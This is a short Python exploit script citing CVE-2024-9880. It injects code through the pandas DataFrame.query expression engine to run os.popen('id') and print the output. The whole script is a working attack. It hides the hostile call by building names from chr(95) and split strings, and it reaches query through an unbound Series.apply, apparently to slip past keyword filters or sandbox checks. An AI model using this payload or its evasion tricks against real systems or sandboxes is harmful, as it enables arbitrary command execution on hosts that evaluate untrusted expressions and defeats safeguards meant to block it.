# source: CVE-2024-9880 (pandas DataFrame.query code injection via attribute/call in the expression; huntr report) + pandas docs DataFrame.agg("method name")
# family: unbound Series.apply(self=DataFrame, runtime name "query") + run-time expression; @names resolve in pandas frames
# goal: builtins.__import__("os").popen("id") run by the pandas expression engine (output shows in the KeyError)
import json
import pandas as pd

df = pd.DataFrame({"a": [1, 2]})
u = chr(95) * 2
out = {}
q = chr(39)
for root in ("com",):
    expr = "@" + root + ".builtins." + u + "import" + u + "(" + q + "o" + "s" + q + ").popen(" + q + "id" + q + ").read()"
    try:
        r = pd.Series.apply(df, "qu" + "ery", args=(expr,))
        out[root] = repr(r)[:200]
    except Exception as e:
        out[root] = type(e).__name__ + ": " + str(e)[:200]
print(json.dumps({"evidence": out}))
